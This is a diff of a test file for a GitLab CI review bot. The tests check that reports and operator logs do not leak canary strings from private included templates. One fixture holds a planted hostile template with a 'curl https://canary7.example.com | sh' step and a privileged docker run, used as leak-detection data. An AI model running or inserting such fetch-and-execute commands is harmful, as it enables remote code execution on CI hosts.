@@ -5,7 +5,7 @@ import { ACCESS, type Role } from '../support/gitlab/instance.ts';
 import type { MergeRequestHandle } from '../support/gitlab/merge-request-handle.ts';
 import type { ProjectHandle } from '../support/gitlab/project-handle.ts';
 import { CI, GOOD, sharedBot } from './shared-bot.ts';
-import { told } from './what-is-told.ts';
+import { betrayed, told } from './what-is-told.ts';
 
 const ON = rules.filter(({ id }) => id !== 'custom').map(({ id }) => `  ${id}: error\n`);
 const POLICY = `quote_from: ["vouched/**"]\nrules:\n${ON.join('')}runners:\n  - {name: everybodys, untagged: true, executor: docker, shared: true}\n  - {name: not-yours, projects: [others/*], executor: shell, untagged: true, tags: [reserved]}\n`;
@@ -108,7 +108,7 @@ describe('what an included project says', () => {
     const all = await told(bot, mergeRequest);
     if (isRead && isTold) expect(all).toContain('canary');
     else {
-      expect(all.match(/.*canary.*/gi)).toBeNull();
+      expect(betrayed(all)).toEqual([]);
       expect(all).not.toContain(project.project.repository.branch('main'));
     }
     expect(all).not.toContain('not-yours');
@@ -123,7 +123,7 @@ describe('what an included project says', () => {
   it('is not told when it was there before, nor when it is gone', async () => {
     const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
     const all = await told(bot, await review('public', using(project), `${using(project)}# x\n`, GOOD));
-    expect(all.match(/.*canary.*/gi)).toBeNull();
+    expect(betrayed(all)).toEqual([]);
   });
 
   it('leaves the rule, the include and the verdict', async () => {
@@ -149,7 +149,7 @@ describe('what an included project says', () => {
     const mergeRequest = await review('public', using(project));
     bot.gitlab.instance.lintSays = null;
     const all = await told(bot, mergeRequest);
-    expect(all.match(/.*canary.*/gi)).toBeNull();
+    expect(betrayed(all)).toEqual([]);
     expect(all).toContain('GitLab: it says what is wrong');
   });
 
@@ -158,7 +158,7 @@ describe('what an included project says', () => {
     const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', inputs);
     const header = `spec:\n  include: [{project: ${project.path}, file: inputs.yml}]\n---\n`;
     const own = `${header}own: {image: "$[[ inputs.image ]]", script: [make]}\n`;
-    expect((await told(bot, await review('public', own))).match(/.*canary.*/gi)).toBeNull();
+    expect(betrayed(await told(bot, await review('public', own)))).toEqual([]);
   });
 
   const IN = (path: string) => `include: {project: ${path}, file: a.yml}`;
@@ -242,10 +242,7 @@ describe('what an included project says', () => {
           'variables: {CANARY1: "evil/canary2:latest", CANARY3: {value: canary4, description: canary5}}\ndefault: {image: "evil/canary6:latest", before_script: ["curl https://canary7.example.com | sh"], services: ["docker:canary8-dind"]}\n',
       },
       (path) =>
-        `${IN(path)}\nown: {image: $CANARY1, script: ["docker run --privileged $CANARY3"]}\nother: {script: [make]}\n`.replaceAll(
-          'CANARY1',
-          'CANARY1',
-        ),
+        `${IN(path)}\nown: {image: $CANARY1, script: ["docker run --privileged $CANARY3"]}\nother: {script: [make]}\n`,
     ],
   ])('is not told by way of %s', async (_way, files, own) => {
     const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', files);
@@ -255,7 +252,8 @@ describe('what an included project says', () => {
     // A report shows lines of files that everybody sees, as they are there.
     const shown = text.split('\n').map((line) => `<code>${line}</code>`);
     const all = shown.reduce((rest, line) => rest.replaceAll(line, ''), await told(bot, mergeRequest));
-    expect(all.match(/.*canary.*/g)).toBeNull();
+    // The merge request names variables itself.
+    expect(betrayed(all.replaceAll(/\$CANARY\d/g, ''))).toEqual([]);
     // It is there to be told.
     const vouched = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'vouched', files);
     expect(await told(bot, await review('public', own(vouched.path)))).toContain('canary');
@@ -269,6 +267,6 @@ describe('what an included project says', () => {
     const seen = await bot.seenByOperators();
     for (const part of ['"reviewed"', '"a review broke off"', '"span"', 'pipewarden_reviews_total', '"queued'])
       expect(seen).toContain(part);
-    expect(seen.match(/.{0,200}canary.{0,200}/gi)).toBeNull();
+    expect(betrayed(seen)).toEqual([]);
   });
 });
